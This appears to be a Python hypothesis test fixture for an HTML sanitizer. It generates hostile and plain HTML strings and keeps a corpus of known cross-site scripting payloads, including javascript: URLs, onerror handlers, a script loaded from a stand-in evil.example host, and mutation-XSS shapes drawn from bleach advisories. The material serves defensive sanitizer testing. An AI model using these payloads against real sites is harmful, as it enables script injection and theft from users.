"""HTML that wants to get past the gate, and plain HTML that may take the short way."""

from hypothesis import strategies as st


def words(text: str) -> list[str]:
    return text.split()


NAMES = words(
    "p br span a del s pre code em strong b i u ul ol li blockquote ruby rt rp h1 h3 h6 div table tr td script "
    "style svg math mi mtext mglyph noscript template iframe form input textarea title select option xmp plaintext "
    "foreignObject desc annotation-xml annotation object embed img video body html head frameset applet button "
    "noembed listing image isindex"
)
KEYS = words(
    "href rel class style id onclick lang translate start reversed value src data-x title target name xlink:href HREF on type"
)
VALUES = [
    "https://a.example/?b=c&amp;d",
    "http://a.example",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:x",
    " javascript:x",
    "\x01javascript:x",
    "data:text/html,x",
    "//evil.example",
    "/rel",
    "https:evil",
    "https://",
    "https:\\\\evil.example",
    "mention hashtag x",
    "h-card",
    "quote-inline",
    "tag me nofollow",
    "no",
    "yes",
    "en-GB",
    "3",
    "-1",
    "x' onclick='y",
    'x" onclick="y',
    "<b>",
    "`",
    "&lt;",
    "&amp;lt;",
    "",
]
tag = st.builds(
    lambda end, name, attributes, close: f"<{end}{name}{attributes}{close}",
    st.sampled_from(["", "", "", "/"]),
    st.sampled_from(NAMES),
    st.lists(
        st.builds(
            lambda space, key, quote, value: f"{space}{key}={quote}{value}{quote}",
            st.sampled_from([" ", "/", "\n", ""]),
            st.sampled_from(KEYS),
            st.sampled_from(['"', "'", ""]),
            st.sampled_from(VALUES),
        ),
        max_size=3,
    ).map("".join),
    st.sampled_from([">", ">", ">", "/>", "", " >"]),
)
pieces = st.one_of(
    tag,
    tag,
    st.text(max_size=8),
    st.sampled_from(
        [
            "<!--",
            "-->",
            "--!>",
            "<![CDATA[",
            "]]>",
            "<?x?>",
            "<!DOCTYPE html>",
            "&lt;script&gt;",
            "&#60;",
            "&",
            "<",
            ">",
            "\n",
            "]]>",
        ]
    ),
)
hostile = st.lists(pieces, max_size=25).map("".join)


plain_tag = st.builds(
    lambda name, attributes, inner: f"<{name}{attributes}>{inner}</{name}>",
    st.sampled_from(words("p p p span span a b i em strong s del u code pre ul ol li blockquote rt h2 div")),
    st.sampled_from(
        [
            "",
            "",
            "",
            ' class="h-card"',
            ' class="invisible x"',
            ' class=""',
            ' href="https://a.example/?b&amp;c"',
            ' href="https://a.example/" class="mention u-url" rel="me tag"',
            ' href="javascript:x"',
            ' lang="en"',
            ' lang="en" lang="de"',
            ' translate="no"',
            ' start="2"',
            ' reversed=""',
            ' id="x"',
        ]
    ),
    st.deferred(lambda: plain),
)
plain_text = st.one_of(
    st.text(alphabet=st.sampled_from("ab \n&<>\"'é\u00a0\u00ad\u200b\ufffe\r\t\x0b\u2028😀;"), max_size=6),
    st.sampled_from(["<br>", "<br/>", "<br />", "&amp;", "&lt;", "&nbsp;", "&#39;", "&quot;", "hello ", "\n", "<p>", "</p>"]),
    st.text(max_size=5),
)
plain = st.lists(st.one_of(plain_text, plain_tag), max_size=4).map("".join)


CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#14;javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href=//evil.example>x</a>",
    '<a href="https://a.example/" onmouseover=alert(1)>x</a>',
    "<p style='background:url(javascript:x)'>x</p>",
    "<b/onclick=alert(1)>x</b>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href='javascript:x'>x</mi></math>",
    "<iframe srcdoc='<script>x</script>'></iframe>",
    "<form action=javascript:x><button>x",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><p>x",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<p title='</p><img src=x onerror=alert(1)>'>x",
    "<a href='https://a.example/\"><img src=x onerror=alert(1)>'>x</a>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><a href='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p id='</xmp><img src=x onerror=alert(1)>'></p></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    # shapes of bleach's own advisories: 2020-6802, 2020-6816, 2020-6817, 2021-23980
    "<noscript><!-- </noscript><img src=x onerror=alert(1)> -->",
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<textarea><noscript></textarea><img src=x onerror=alert(1)>",
    "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'>",
    "<math><p><style><!--</style><img src/onerror=alert(1)>",
    "<math></p><style><!--</style><img src/onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg></p><math><title><!--</title><img src=x onerror=alert(1)>--></math>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><annotation-xml><foreignobject><style><!--</style><p id='--><img src=x onerror=alert(1)>'>",
    "<p style='" + "a:b;" * 2000 + "'>x",
]
